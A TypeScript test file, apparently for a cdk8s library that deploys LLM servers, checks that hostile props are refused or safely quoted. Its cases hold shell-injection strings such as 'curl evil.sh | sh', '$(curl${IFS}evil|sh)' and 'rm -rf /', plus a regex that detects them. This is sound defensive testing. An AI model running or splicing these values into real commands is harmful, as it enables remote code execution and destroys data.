/**
 * The cases of ../shared/reference/audits/hostile-input-2026-12.md, tried as a plain-JavaScript (or jsii)
 * caller would: every one must now be refused with one clear Error naming the prop (CLEAR), or handled
 * right (OK). Numbers in the test names are the audit's section numbers. The properties at the end
 * generate strings full of shell and `$(...)` metacharacters for the string props and check that none
 * reaches a shell script, an unquoted note or an unescaped container argument.
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { App, Chart, Testing } from 'cdk8s';
import { Construct } from 'constructs';
import * as fc from 'fast-check';
import {
  AutoscalingMetric, Capacity, CloudStorageFuseModel, HuggingFaceToken, InferenceCatalog, InferenceGateway, InferenceResolver, LlmServerAutoscaler,
  ModelTransferJob, OptimizedLlmServer, ScaleTarget, ServerClients, XlaCompilationCache,
} from '../src';
import { llama8bArchitecture } from './support/architectures';
import { cli, fails } from './support/cli';
import { bucketPrefixWriteBindingCommands } from '../src/storage/iam';
import { kubernetesExpand, shellQuote } from '../src/util/shell-quote';

/** Plain-JS view of the library: no TypeScript checks on what is passed. */
const L: any = {
  OptimizedLlmServer,
  ModelTransferJob,
  HuggingFaceToken,
  InferenceCatalog,
  InferenceResolver,
  CloudStorageFuseModel,
  XlaCompilationCache,
  ServerClients,
  InferenceGateway,
};

const GEMMA = 'google/gemma-2-27b-it';
const chartOf = (namespace: string | undefined = 'llm') => new Chart(Testing.app(), 'c', namespace === undefined ? {} : { namespace });

/** Constructs a server from untyped props. */
function server(props: any, chart = chartOf()): OptimizedLlmServer {
  return new L.OptimizedLlmServer(chart, 's', props);
}

/** Expects a clean refusal: an Error (not a TypeError), one line of printable text, naming what is wrong. */
function refused(f: () => unknown, pattern: RegExp): string {
  let error: unknown;
  try {
    f();
  } catch (e) {
    error = e;
  }
  expect(error).toBeInstanceOf(Error);
  const e = error as Error;
  expect(e.constructor).toBe(Error);
  expect(e.message).toMatch(pattern);
  // eslint-disable-next-line no-control-regex
  expect(e.message).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
  expect(e.message).not.toMatch(/'undefined'|NaN|\[object Object\]/);
  return e.message;
}

/** Every container of every pod template in the synthesized objects, with the env names it defines. */
function containersIn(objects: any[]): any[] {
  const out: any[] = [];
  const visit = (v: any) => {
    if (v === null || typeof v !== 'object') return;
    if (Array.isArray(v)) return v.forEach(visit);
    for (const field of ['containers', 'initContainers']) {
      if (Array.isArray(v[field]) && v[field].every((c: any) => c && typeof c.name === 'string')) out.push(...v[field]);
    }
    Object.values(v).forEach(visit);
  };
  visit(objects);
  return out;
}

/**
 * The invariants that must hold for any accepted input: no `$(VAR)` in a container's command, args or env value that the
 * kubelet would expand from the container's own variables (the token among them), and no `marker` inside a `sh -c` script.
 */
function expectNoExpansionOrSplice(objects: any[], marker?: string): void {
  for (const c of containersIn(objects)) {
    const vars: { [name: string]: string } = {};
    for (const e of c.env ?? []) vars[e.name] = 'EXPANDED-SENTINEL';
    const strings: string[] = [...(c.command ?? []), ...(c.args ?? []), ...(c.env ?? []).map((e: any) => e.value).filter((v: any) => typeof v === 'string')];
    for (const s of strings) expect(kubernetesExpand(s, vars)).not.toContain('EXPANDED-SENTINEL');
    if (marker !== undefined) {
      const words: string[] = [...(c.command ?? []), ...(c.args ?? [])];
      const dashC = words.indexOf('-c');
      if (dashC >= 0 && dashC + 1 < words.length) expect(words[dashC + 1]).not.toContain(marker);
    }
  }
}

/**
 * What a POSIX shell would still interpret in a line: the text outside single quotes and backslash escapes (double-quoted
 * text counts, since `$(` and backticks work there).
 */
function activeText(line: string): string {
  let out = '';
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === '\'') {
      const end = line.indexOf('\'', i + 1);
      if (end < 0) return out + line.slice(i + 1);
      i = end;
    } else if (c === '\\') {
      i++;
    } else {
      out += c;
    }
  }
  return out;
}

/** The parts of a shell command a shell interprets must carry none of a hostile value's metacharacters. */
function expectQuoted(note: string): void {
  expect(activeText(note)).not.toMatch(/\$\(|`|;\s*curl|\|\s*sh/);
}

/**
 * A construct made from a hostile string `s` is either refused with a plain Error and a printable message, or its objects carry
 * `s` in no script and no expandable `$(VAR)`, and its notes quote it.
 */
function expectRefusedOrSafe(make: () => Construct & { readonly deploymentNotes: readonly string[] }, s: string): void {
  let made: Construct & { readonly deploymentNotes: readonly string[] };
  let objects: any[];
  try {
    made = make();
    objects = Chart.of(made).toJson();
  } catch (e) {
    expect((e as Error).constructor).toBe(Error);
    // eslint-disable-next-line no-control-regex
    expect((e as Error).message).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
    return;
  }
  expectNoExpansionOrSplice(objects, s);
  for (const note of made.deploymentNotes) expectQuoted(note);
}

test('activeText sees what sh interprets', () => {
  expect(activeText("a 'b$(c)' \\$(d) \"$(e)\"")).toBe('a  (d) "$(e)"');
  expect(activeText(`x ${shellQuote("it's $(id)")} y`)).toBe('x  y');
});

describe('3. injection', () => {
  test('a cache prefix with quotes, backslashes or $( reaches the IAM condition as a CEL literal inside one shell word', () => {
    const [viewer, writer] = bucketPrefixWriteBindingCommands('my-b', 'a"b\\c/$(id)', 'llm', 'sa');
    expect(viewer).toMatch(/--role roles\/storage\.objectViewer$/);
    const word = writer.slice(writer.indexOf("'--condition"));
    const printed = spawnSync('bash', ['-c', `printf '%s\\n' ${word}`], { encoding: 'utf8' }).stdout.trim();
    expect(printed).toBe('--condition=expression=resource.name.startsWith("projects/_/buckets/my-b/objects/a\\"b\\\\c/$(id)/"),title=write-under-prefix');
    expect(activeText(writer)).not.toContain('$(');
  });

  test('1: a bucket URI with $(cmd) never reaches the XLA-cache seed script: it is a positional parameter, escaped from $(VAR)', () => {
    const uri = 'gs://my-b/m/$(touch${IFS}PWNED)';
    const s = server({ model: GEMMA, acceleratorType: 'tpu-v6e-slice', modelBucketUri: uri });
    const objects = Chart.of(s).toJson();
    const seed = containersIn(objects).find((c) => c.name === 'xla-cache-seed');
    expect(seed.command.slice(0, 2)).toEqual(['sh', '-c']);
    expect(seed.command[2]).not.toContain('touch');
    expect(seed.command[2]).toContain('$1');
    expect(kubernetesExpand(seed.command[4], {})).toBe(`${uri}/xla-cache/tpu-v6e-slice-2x2/v0.11.1-tpu`);
    expectNoExpansionOrSplice(objects, 'touch');
  });

  test('1: the seed script run by a real shell with the hostile URI does not execute it', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'seed-'));
    const s = server({ model: GEMMA, acceleratorType: 'tpu-v6e-slice', modelBucketUri: `gs://my-b/m/$(touch${'${IFS}'}${dir}/PWNED)` });
    const seed = containersIn(Chart.of(s).toJson()).find((c) => c.name === 'xla-cache-seed');
    // point the script's copy at temporary directories, expand as the kubelet would, then run it
    fs.mkdirSync(path.join(dir, 'shared'));
    fs.mkdirSync(path.join(dir, 'local'));
    const script = seed.command[2].replace('/xla-cache-shared', path.join(dir, 'shared')).replace('/xla-cache/', `${path.join(dir, 'local')}/`);
    const r = spawnSync('sh', ['-c', script, seed.command[3], kubernetesExpand(seed.command[4], {})], { encoding: 'utf8' });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('$(touch');
    expect(fs.existsSync(path.join(dir, 'PWNED'))).toBe(false);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('2, 3: a model id carrying $(HF_TOKEN) or quotes is refused everywhere: addModel, resolve, ModelTransferJob', () => {
    const arch = llama8bArchitecture('acme/chat-8b');
    for (const id of ['acme/$(HF_TOKEN)', "acme/'$(touch${IFS}PWNED)'$(MODEL_ID)", 'acme/a b', 'acme/x\u0000y', 'acme/\u001b[31mred', '../..', 'a/b/c', 'acme/a--b']) {
      refused(() => InferenceCatalog.embedded().addModel({ ...arch, id }), /'id' must be a Hugging Face model id 'owner\/name'/);
      refused(() => InferenceResolver.resolve({ model: id }), /'model'/);
      refused(() => new L.ModelTransferJob(chartOf(), 'j', { model: id, modelBucketUri: 'gs://my-b/m' }), /'model' must be a Hugging Face model id/);
    }
  });

  test('2: JetStream checkpoint and Pathways scratch URIs with $(HF_TOKEN) stay literal after Kubernetes expansion', () => {
    const s = server({
      model: 'meta-llama/Llama-3.1-8B-Instruct',
      modelServer: 'jetstream',
      acceleratorType: 'tpu-v6e-slice',
      image: 'us-docker.pkg.dev/my-project/inference/maxengine-server:maxtext-2024-10-09',
      modelBucketUri: 'gs://ckpt/$(HF_TOKEN)/items',
      huggingFaceToken: HuggingFaceToken.fromSecret('hf-secret'),
    });
    const objects = Chart.of(s).toJson();
    const engine = containersIn(objects).find((c) => (c.args ?? []).some((a: string) => a.startsWith('load_parameters_path=')));
    const arg = engine.args.find((a: string) => a.startsWith('load_parameters_path='));
    expect(kubernetesExpand(arg, { HF_TOKEN: 'SECRET' })).toBe('load_parameters_path=gs://ckpt/$(HF_TOKEN)/items');
    expectNoExpansionOrSplice(objects);
  });

  test('3: the multi-host leader exec line quotes every word with the one shell-quote helper', () => {
    const s = server({ model: 'meta-llama/Llama-3.3-70B-Instruct', acceleratorType: 'nvidia-l4', name: 'llama', modelBucketUri: 'gs://my-b/m/$(id)' });
    const objects = Chart.of(s).toJson();
    expectNoExpansionOrSplice(objects, '$(id)');
  });

  test('4: a plain object for huggingFaceToken is refused, as is a hand-made instance with hostile fields', () => {
    const payload = { secretName: 'x; curl evil.sh | sh #', key: 'k=$(curl evil)' };
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', huggingFaceToken: payload }),
      /'huggingFaceToken' must be made with HuggingFaceToken.fromSecret/);
    refused(() => new L.ModelTransferJob(chartOf(), 'j', { model: GEMMA, modelBucketUri: 'gs://my-b/m', huggingFaceToken: payload }),
      /'huggingFaceToken' must be made with HuggingFaceToken.fromSecret/);
    const forged = Object.create(HuggingFaceToken.prototype, { secretName: { value: payload.secretName }, key: { value: payload.key } });
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', huggingFaceToken: forged }), /^'huggingFaceToken': HuggingFaceToken\.fromSecret: 'secretName' must be a Kubernetes Secret name/);
    refused(() => (HuggingFaceToken as any).fromSecret(123, 5), /'secretName' must be a Kubernetes Secret name.*got number 123/);
    refused(() => HuggingFaceToken.fromSecret('a..b'), /got string 'a\.\.b'/);
    refused(() => HuggingFaceToken.fromSecret('hf', 'k=$(curl evil)'), /^HuggingFaceToken\.fromSecret: 'key' must be a Secret key/);
  });

  test('6: IAM commands validate the namespace and service account; the mount path is never spliced; the pre-fetch image is pinned', () => {
    const fuse = CloudStorageFuseModel.fromUri('gs://my-b/m');
    refused(() => fuse.iamBindingCommand('x"; curl evil|sh; echo "', 'sa'), /'namespace' must be a Kubernetes namespace/);
    refused(() => fuse.iamBindingCommand('ns', 'sa; rm -rf /'), /'serviceAccountName' must be a Kubernetes service account name/);
    refused(() => CloudStorageFuseModel.fromUri('gs://my-b/m', { mountPath: '/gcs; curl evil|sh;' }), /'mountPath' .* must be an absolute path/);
    refused(() => CloudStorageFuseModel.fromUri('gs://my-b/m', { prefetchImage: 'busybox' }), /'prefetchImage' .* must be pinned/);
    // the chart's namespace is checked when the server is made: its notes exist before synthesis
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', modelBucketUri: 'gs://my-b/m' }, chartOf('x$(curl evil|sh)')),
      /The chart's 'namespace' must be a Kubernetes namespace/);
  });

  test('6: every deploymentNotes command is shell-quoted', () => {
    const s = server({
      model: GEMMA, acceleratorType: 'tpu-v6e-slice', modelBucketUri: 'gs://my-b/m/$(curl${IFS}evil|sh)`id`;x', huggingFaceToken: HuggingFaceToken.fromSecret('my.secret', 'tok_en-1'),
    });
    for (const note of s.deploymentNotes) expectQuoted(note);
    expect(s.deploymentNotes.join('\n')).toContain('kubectl create secret generic my.secret --namespace=llm --from-literal=tok_en-1="$HF_TOKEN"');
    const job = new L.ModelTransferJob(chartOf(), 'j', { model: GEMMA, modelBucketUri: 'gs://my-b/m/$(curl${IFS}evil|sh)', revision: 'main' });
    for (const note of job.deploymentNotes) expectQuoted(note);
  });
});

describe('4. secrets', () => {
  test('5: a token pasted as the Secret name or key is refused and never echoed', () => {
    const token = 'hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567';
    expect(refused(() => HuggingFaceToken.fromSecret('hf-secret', token), /looks like a Hugging Face token/)).not.toContain(token);
    expect(refused(() => HuggingFaceToken.fromSecret(token), /looks like a Hugging Face token/)).not.toContain(token);
    // and messages that echo a value redact anything token-shaped
    expect(refused(() => InferenceResolver.resolve({ model: GEMMA, region: token as any, acceleratorType: 'nvidia-l4' }), /region/)).not.toContain(token);
  });
});

describe('2. names', () => {
  test('7: two objects with the same kind, namespace and name anywhere in the App fail synthesis', () => {
    const app = Testing.app();
    const chart = new Chart(app, 'c', { namespace: 'llm' });
    new OptimizedLlmServer(chart, 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'gemma' });
    new OptimizedLlmServer(chart, 'b', { model: GEMMA, acceleratorType: 'nvidia-h100-80gb', name: 'gemma' });
    refused(() => app.synth(), /\[kubernetes\/unique-object-names\] ServiceAccount llm\/gemma is emitted twice.*give one of the constructs another 'name'/s);

    // a server and a transfer Job must not share a ServiceAccount (the Job's bucket write grant)
    const app2 = Testing.app();
    const c2 = new Chart(app2, 'c', { namespace: 'llm' });
    new OptimizedLlmServer(c2, 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'gemma', modelBucketUri: 'gs://my-b/m' });
    new ModelTransferJob(c2, 'stage', { model: GEMMA, modelBucketUri: 'gs://my-b/m', name: 'gemma' });
    refused(() => c2.toJson(), /ServiceAccount llm\/gemma is emitted twice: by OptimizedLlmServer .* and by ModelTransferJob/);

    // across two charts of one namespace too; two namespaces are fine
    const app3 = Testing.app();
    new OptimizedLlmServer(new Chart(app3, 'x', { namespace: 'llm' }), 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'gemma' });
    new OptimizedLlmServer(new Chart(app3, 'y', { namespace: 'llm' }), 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'gemma' });
    refused(() => app3.synth(), /unique-object-names/);
    const app4 = Testing.app();
    new OptimizedLlmServer(new Chart(app4, 'x', { namespace: 'a' }), 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'gemma' });
    new OptimizedLlmServer(new Chart(app4, 'y', { namespace: 'b' }), 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'gemma' });
    expect(() => app4.synth()).not.toThrow();

    // a chart without a namespace is applied to 'default': the same name there is the same object
    const app5 = Testing.app();
    new OptimizedLlmServer(new Chart(app5, 'x'), 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'chat' });
    new OptimizedLlmServer(new Chart(app5, 'y', { namespace: 'default' }), 'a', { model: GEMMA, acceleratorType: 'nvidia-l4', name: 'chat' });
    refused(() => app5.synth(), /ServiceAccount default\/chat is emitted twice: .*\(one of them sets no namespace: kubectl applies it to 'default'\)/s);

    // the one cluster object two charts share (the kube-system TPU exporter scrape) is no conflict, whatever labels each chart adds
    const app6 = Testing.app();
    for (const team of ['a', 'b']) {
      new LlmServerAutoscaler(new Chart(app6, `team-${team}`, { namespace: team, labels: { team } }), 'hpa', {
        target: ScaleTarget.deployment('srv'), modelServer: 'jetstream', metric: AutoscalingMetric.TPU_MEMORY_USED, targetAverageValue: 30 * 2 ** 30,
      });
    }
    expect(() => app6.synth()).not.toThrow();
    const exporters = app6.charts.flatMap((c) => c.toJson()).filter((o: any) => o.metadata.namespace === 'kube-system');
    expect(exporters.map((o: any) => o.metadata.labels.team)).toEqual(['a', 'b']);
  });

  test('8: a LeaderWorkerSet name keeps its worker pods\' controller-revision-hash label within 63 characters', () => {
    const props = { model: 'meta-llama/Llama-3.3-70B-Instruct', acceleratorType: 'nvidia-l4' };
    refused(() => server({ ...props, name: 'a'.repeat(63) }), /'name' .* is 63 characters, but a LeaderWorkerSet of up to 1 groups must be named in at most 50/);
    // with an HPA of up to 20 groups, two index digits
    refused(() => server({ ...props, name: 'a'.repeat(50), targetNtpotMilliseconds: 2000, maxReplicas: 20 }), /at most 49/);
    const ok = server({ ...props, name: 'a'.repeat(49), targetNtpotMilliseconds: 2000, maxReplicas: 20 });
    // the longest label the LWS controller derives: <name>-<highest group index>-<10-character hash>
    expect(`${ok.name}-19-${'h'.repeat(10)}`.length).toBeLessThanOrEqual(63);
  });
});

describe('1. relations and bounds', () => {
  test('values the API server, the container runtime or GCP would refuse are refused at construct time, naming the prop', () => {
    const base = { model: GEMMA, acceleratorType: 'nvidia-l4' };
    // Go's exec refuses NUL (EINVAL); execve refuses one environment string over 128 KiB (E2BIG)
    refused(() => server({ ...base, env: { A: 'a\u0000b' } }), /^'env' 'A': a value may not hold a NUL character/);
    refused(() => server({ ...base, env: { BIG: 'x'.repeat(200 * 1024) } }), /^'env' 'BIG': a variable of 204800 bytes is over the 128 KiB/);
    expect(() => server({ ...base, env: { FINE: 'x'.repeat(1000) } })).not.toThrow();
    // "restartPolicy: Forbidden: may not be set for non-init containers"
    const sidecar = {
      name: 'agent',
      image: 'registry.example/agent:1.0',
      restartPolicy: 'Always',
      resources: { requests: { cpu: '100m', memory: '64Mi' }, limits: { memory: '64Mi' } },
      securityContext: { allowPrivilegeEscalation: false },
    };
    refused(() => server({ ...base, sidecars: [sidecar] }), /^'sidecars' container 'agent': 'restartPolicy' is for native sidecars/);
    // except ranges must be strict subsets of the block, of its family
    for (const except of ['192.168.0.0/16', '10.0.0.0/8', 'fd00::/64']) {
      refused(() => L.ServerClients.ipBlock('10.0.0.0/8', [except]), /^ServerClients\.ipBlock: 'exceptCidrs' '.*' is not a strict subset of '10\.0\.0\.0\/8'/);
    }
    expect(() => L.ServerClients.ipBlock('10.0.0.0/8', ['10.1.0.0/16'])).not.toThrow();
    expect(() => L.ServerClients.ipBlock('2001:db8::/32', ['2001:db8:1::/48'])).not.toThrow();
    refused(() => L.ServerClients.ipBlock('2001:db8::/32', ['2001:db9::/48']), /not a strict subset/);
    // annotations over 256 KiB in all are refused by the API server; a benchmark source lands in every served Deployment's annotation
    refused(() => server({ ...base, podAnnotations: { 'example.com/blob': 'x'.repeat(300 * 1024) } }), /^'podAnnotations' total 307216 bytes: the API server refuses/);
    refused(() => InferenceCatalog.embedded().addBenchmarksFromCsv('Output Tokens/s,NTPOT(ms)\n300,45\n900,120\n', {
      model: GEMMA, modelServer: 'vllm', modelServerVersion: 'v0.7.2', acceleratorType: 'nvidia-l4', acceleratorCount: 4, source: 'y'.repeat(3000),
    }), /^'source' is 3000 characters: at most 2000/);
    // a proxy-only subnet is at least a /26
    const fenced = server({ ...base, name: 'fenced', allowedClients: [L.ServerClients.inNamespace('web')] });
    refused(() => new L.InferenceGateway(Chart.of(fenced), 'g', { servers: [fenced], proxyOnlySubnetCidr: '10.129.0.7/32' }),
      /^'proxyOnlySubnetCidr' '10\.129\.0\.7\/32' is a \/32: a proxy-only subnet is at least a \/26/);
  });

  test('9: initial replicas are clamped to [minReplicas, maxReplicas] with a decision line', () => {
    const s = server({ model: GEMMA, acceleratorType: 'nvidia-l4', targetNtpotMilliseconds: 1100, expectedRequestsPerSecond: 1e9 });
    const deployment = Chart.of(s).toJson().find((o: any) => o.kind === 'Deployment');
    expect(deployment.spec.replicas).toBeUndefined();
    expect(s.deploymentNotes.join('\n')).toMatch(/Initial replicas: 5 .*kubectl scale deployment\/\S+ --namespace llm --replicas 5$/m);
    expect(s.resolution.autoscaling!.initialReplicas).toBeGreaterThan(1e6);
    expect(s.resolution.decisions.join('\n')).toMatch(/initial replicas 5: the \d+ that 'expectedRequestsPerSecond' asks for clamped to \[minReplicas 1, maxReplicas 5\]/);
    const three = server({ model: GEMMA, acceleratorType: 'nvidia-l4', targetNtpotMilliseconds: 1100, expectedRequestsPerSecond: 50, maxReplicas: 3 });
    expect(three.deploymentNotes.join('\n')).toMatch(/--replicas 3$/m);
  });

  test('11: int32 overflow and malformed images are refused', () => {
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', replicas: 2 ** 31 }), /'replicas' must be a whole number from 0 to 2147483647/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', targetNtpotMilliseconds: 1100, maxReplicas: 2 ** 31 }), /'maxReplicas'/);
    for (const image of ['VLLM/Vllm:v1', 'evil repo;x:v1', 'vllm/vllm-openai@sha256:0', 'vllm/vllm-openai:v1\u0000']) {
      refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', image }), /'image' must be a container image reference/);
    }
    refused(() => new L.ModelTransferJob(chartOf(), 'j', { model: GEMMA, modelBucketUri: 'gs://my-b/m', image: 'python:latest' }), /'image' .* must be pinned/);
  });

  test('12: misspelt, misplaced or meaningless props are refused instead of ignored', () => {
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', tagetNtpotMilliseconds: 100 }), /unknown prop 'tagetNtpotMilliseconds'; did you mean 'targetNtpotMilliseconds'\?/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', namespace: 'llm' }), /unknown prop 'namespace'/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', autoscalingMetric: AutoscalingMetric.QUEUE_SIZE }),
      /'autoscalingMetric' needs a latency target/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', expectedRequestsPerSecond: 3 }), /'expectedRequestsPerSecond' needs a latency target/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', catalog: {} }), /'catalog' must be made with InferenceCatalog.embedded\(\)/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', catalog: 'embedded' }), /'catalog' must be made with/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', huggingFaceToken: 'hf-secret' }), /'huggingFaceToken' must be made with/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', maxModelLength: 1 }), /'maxModelLength' \(1\) is shorter than the 2048 tokens/);
    refused(() => CloudStorageFuseModel.fromUri('gs://my-b/m', { fileCacheMedium: 'floppy' as any }), /'fileCacheMedium' must be one of/);
    for (const uri of ['gs://my-google-bucket/m', 'gs://192.168.5.4/m', 'gs://goog-models/m', 'gs://g00gle-x/m', `gs://${'a'.repeat(64)}/m`]) {
      refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', modelBucketUri: uri }), /'modelBucketUri' .* names an invalid bucket/);
    }
  });
});

describe('CRASH cases become clear errors', () => {
  test('a value named like an Object prototype member stays itself in CLI messages; a function or symbol is described', () => {
    for (const name of ['constructor', 'toString', 'hasOwnProperty']) {
      const r = cli(['profiles', 'list', `--model=${name}`]);
      expect(r.code).toBe(1);
      expect(r.err).toContain(`Unknown model '${name}' (--model)`);
      expect(r.err).not.toMatch(/native code/);
    }
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', averageInputTokens: () => 5 }),
      /^'averageInputTokens' must be a whole number of tokens, at least 1, got a function\.$/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', averageOutputTokens: Symbol('x') }),
      /^'averageOutputTokens' must be a whole number of tokens, at least 1, got a symbol\.$/);
  });

  test('a scope that is no construct, or an id that is no string, is named before the constructs package meets it', () => {
    refused(() => new L.OptimizedLlmServer({}, 's', { model: GEMMA, acceleratorType: 'nvidia-l4' }), /OptimizedLlmServer: 'scope' must be a construct \(a cdk8s Chart\), got object \{\}/);
    refused(() => new L.ModelTransferJob(chartOf(), 42, { model: GEMMA, modelBucketUri: 'gs://my-b/m' }), /ModelTransferJob: 'id' must be a non-empty string, got number 42/);
    refused(() => new L.XlaCompilationCache(null, 'x', {}), /XlaCompilationCache: 'scope' must be a construct .*got null/);
    // the App itself, or a construct outside any Chart: cdk8s would say only "cannot find a parent chart"
    refused(() => new L.OptimizedLlmServer(Testing.app(), 's', { model: GEMMA, acceleratorType: 'nvidia-l4' }),
      /OptimizedLlmServer: 'scope' must be a cdk8s Chart or a construct inside one, got the App: create a Chart/);
    const app = Testing.app();
    refused(() => new L.ModelTransferJob(new Construct(app, 'group'), 'stage', { model: GEMMA, modelBucketUri: 'gs://my-b/m' }),
      /ModelTransferJob: 'scope' must be a cdk8s Chart or a construct inside one, got 'group'/);
  });

  test('a name derived from the construct path that is no DNS label says where it came from and what to do', () => {
    const app = Testing.app();
    refused(() => new OptimizedLlmServer(new Chart(app, 'serving.prod', { namespace: 'llm' }), 'gemma', { model: GEMMA, acceleratorType: 'nvidia-l4' }),
      /'name' is unset, and the name derived from the construct path 'serving\.prod\/gemma', 'serving\.prod-gemma-[0-9a-f]+', is not a DNS-1035 label .*pass 'name'/);
    // a name the user gives is named as theirs
    refused(() => new OptimizedLlmServer(new Chart(app, 'c2', { namespace: 'llm' }), 'gemma', { model: GEMMA, acceleratorType: 'nvidia-l4', name: '9lives' }),
      /^'name' '9lives' must be a DNS-1035 label/);
  });

  test('a line break in a string prop is shown escaped: every refusal is one line', () => {
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', useCase: 'poetry\nx' }), /Unknown use case 'poetry\\u000ax'/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', modelBucketUri: 'gs://my-b/m', gkeVersion: '1.33\nx' }), /'gkeVersion' '1.33\\u000ax'/);
    refused(() => server({ model: 'google/gemma-2-27b-it-x', acceleratorType: 'nvidia-l4' }), /Unknown model 'google\/gemma-2-27b-it-x'/);
  });

  test('NaN, Infinity and undefined inside a list or map are shown as themselves, not as JSON\'s null', () => {
    // (not through refused(), which treats a NaN in a message as one the library computed)
    expect(() => server({ model: GEMMA, allowedAcceleratorTypes: ['nvidia-l4', NaN] }))
      .toThrow(/'allowedAcceleratorTypes' must be a list of strings, got array \["nvidia-l4","NaN"\]\./);
  });

  test('3: null, undefined and wrong-typed arguments name the argument', () => {
    refused(() => server(null), /OptimizedLlmServer props must be an object of props, got null/);
    refused(() => server(undefined), /OptimizedLlmServer props must be an object of props, got undefined/);
    refused(() => new L.ModelTransferJob(chartOf(), 'j', null), /ModelTransferJob props must be an object of props, got null/);
    refused(() => (InferenceResolver as any).resolve(null), /must be an object of props, got null/);
    refused(() => (HuggingFaceToken as any).fromSecret(undefined), /'secretName' must be a Kubernetes Secret name.*got undefined/);
    refused(() => (HuggingFaceToken as any).fromSecret(null), /got null/);
    refused(() => (InferenceCatalog.embedded() as any).addModel(null), /addModel model must be an object of props, got null/);
    refused(() => (InferenceCatalog.embedded() as any).addBenchmark(null), /addBenchmark point must be an object of props, got null/);
    refused(() => (InferenceCatalog.embedded() as any).addBenchmarksFromCsv(123), /'text' must be the file's contents as a string, got number 123/);
    refused(() => (InferenceCatalog.embedded() as any).addBenchmarksFromCsv(null), /got null/);
    refused(() => (InferenceCatalog.embedded() as any).addBenchmarksFromCsv('a,b\n1,2', null), /benchmark import options must be an object/);
    refused(() => (CloudStorageFuseModel.fromUri('gs://my-b/m') as any).applyTo(null, 'x'), /'template' must be a pod template/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', modelBucketUri: 'gs://my-b/m', gkeVersion: 1.33 }), /'gkeVersion' must be a string, got number 1.33/);
    refused(() => new L.ModelTransferJob(chartOf(), 'j', { model: GEMMA, modelBucketUri: 'gs://my-b/m', gkeVersion: 1.33 }), /'gkeVersion' must be a string/);
    refused(() => server({ model: GEMMA, acceleratorType: 'nvidia-l4', replicas: '3' }), /'replicas' must be a number, got string '3'/);
    refused(() => new L.ModelTransferJob(chartOf(), 'j', { model: GEMMA, modelBucketUri: 'gs://my-b/m', parallelDownloads: '4' }),
      /'parallelDownloads' must be a number, got string '4'/);
  });

  test('every enum prop refuses an unknown value in one wording: each value with the name a caller writes for it', () => {
    const oneWording = (prop: string, enumName: string) =>
      new RegExp(`^'${prop}' must be one of ('[a-z0-9-]+' \\(${enumName}\\.[A-Z0-9_]+\\)(, )?)+, got string 'x'\\.$`);
    const l4 = { model: GEMMA, acceleratorType: 'nvidia-l4' };
    const cases: [string, string, () => unknown][] = [
      ['weightPrecision', 'WeightPrecision', () => server({ ...l4, weightPrecision: 'x' })],
      ['kvCacheDtype', 'KvCacheDtype', () => InferenceResolver.resolve({ ...l4, kvCacheDtype: 'x' as any })],
      ['pricingModel', 'PricingModel', () => server({ ...l4, pricingModel: 'x' })],
      ['capacity', 'Capacity', () => server({ ...l4, capacity: 'x' })],
      ['autoscalingMetric', 'AutoscalingMetric', () => server({ ...l4, targetNtpotMilliseconds: 1100, autoscalingMetric: 'x' })],
      ['clusterMode', 'ClusterMode', () => server({ ...l4, clusterMode: 'x' })],
      ['fileCacheMedium', 'CacheMedium', () => CloudStorageFuseModel.fromUri('gs://my-b/m', { fileCacheMedium: 'x' as any })],
      ['weightFormat', 'WeightPrecision', () => InferenceCatalog.embedded().addModel({ ...llama8bArchitecture('acme/x'), weightFormat: 'x' as any })],
      ['weightPrecision', 'WeightPrecision', () => InferenceCatalog.embedded().curve({ ...l4, modelServer: 'vllm', acceleratorCount: 4, weightPrecision: 'x' as any })],
    ];
    for (const [prop, enumName, make] of cases) {
      const message = refused(make, new RegExp(`'${prop}' must be one of`));
      expect(message.replace(/^\w+: /, '')).toMatch(oneWording(prop, enumName));
    }
    // the wording lists the values the caller can write, e.g. PricingModel's
    expect(refused(() => server({ ...l4, pricingModel: 'x' }), /PricingModel/))
      .toContain("'on-demand' (PricingModel.ON_DEMAND), 'spot' (PricingModel.SPOT), '1-year-cud' (PricingModel.ONE_YEAR_CUD)");
  });

  test('4: a second TPU-memory HPA names both HPAs (no undefined)', () => {
    const chart = chartOf();
    // the resolver refuses the signal for JetStream (MaxText preallocates its KV cache); a measured target goes on the part
    const hpa = (id: string, name: string) => new LlmServerAutoscaler(chart, id, {
